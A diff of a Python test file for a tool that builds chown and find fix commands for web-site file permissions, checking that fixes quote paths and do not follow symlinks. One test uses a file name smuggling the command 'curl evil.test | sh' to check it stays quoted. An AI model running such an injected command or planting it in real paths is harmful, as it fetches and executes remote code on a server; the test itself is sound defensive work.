@@ -136,7 +136,8 @@ def key(**changes: Any) -> list[dict[str, Any]]:
 
 
 def file(kind: str) -> list[dict[str, Any]]:
-    return [{"kind": kind, "app": "blog", "path": "/srv/blog/x", "count": 2, "owner": "eve", "wanted": "blog"}]
+    place = {"path": "/srv/blog/x", "start": "/srv/blog/x"}
+    return [{"kind": kind, "app": "blog", **place, "count": 2, "owner": "eve", "uid": 1007, "wanted": "blog"}]
 
 
 UNSEEN = {"kind": "unseen", "app": "", "path": "/srv", "count": 500_000, "rest": ["/srv/blog/shared"]}
@@ -460,12 +461,37 @@ def test_a_key_is_measured_and_not_told(value: str | bytes, weak: str) -> None:
     assert text not in str({name: item for name, item in said.items() if name != "name"})
 
 
+def fix_of(kind: str, **more: Any) -> str:
+    findings, dummy = diagnose(changed("files", [{**file(kind)[0], **more}]))
+    (fix,) = [finding.fix for finding in findings]
+    return fix
+
+
 @pytest.mark.parametrize("kind", ["world-writable", "own-code", "group-code", "foreign"])
 def test_the_name_of_a_file_is_no_command(kind: str) -> None:
-    path = "/srv/blog/shared/a; curl evil.test | sh #"
-    findings, dummy = diagnose(changed("files", [{**file(kind)[0], "path": path}]))
-    assert [f" '{path}'" in finding.fix for finding in findings] == [True]
-    assert ": '" not in findings[0].fix, "chown with a colon takes the group away, by which the site reads its code"
+    path = "/srv/blog/a; curl evil.test | sh #"
+    fix = fix_of(kind, path=path, start=path, wanted="root")
+    assert f" '{path}'" in fix
+    assert ": '" not in fix, "chown with a colon takes the group away, by which the site reads its code"
+
+
+@pytest.mark.parametrize("kind", ["world-writable", "own-code", "group-code", "foreign"])
+@pytest.mark.parametrize("app", ["blog", ""])
+def test_root_is_told_no_path_that_the_site_can_turn_elsewhere(kind: str, app: str) -> None:
+    """It may put a link to /etc in place of a directory before the command is run."""
+    for start, wanted in (("/srv/blog/shared", app or "root"), ("/srv/blog/releases/1", "root")):
+        fix = fix_of(kind, app=app, path=f"{start}/uploads/x", start=start, wanted=wanted)
+        assert start in fix
+        assert f"{start}/" not in fix
+
+
+def test_below_shared_no_command_of_root_follows_a_link() -> None:
+    place = {"path": "/srv/blog/shared/a/b", "start": "/srv/blog/shared", "uid": 1007}
+    assert fix_of("foreign", **place).startswith("chown -hR --from=1007 blog /srv/blog/shared, unless")
+    closed = "cd / && runuser -u blog -- find /srv/blog/shared -xdev ! -type l -perm -o+w ! -perm -1000 -execdir"
+    assert fix_of("world-writable", **place, owner="blog").startswith(closed)
+    # The site's user can't change the mode of what is somebody else's.
+    assert fix_of("world-writable", **place).startswith(f"chown -hR --from=1007 blog /srv/blog/shared && {closed}")
 
 
 def test_whose_a_file_was_to_be() -> None:
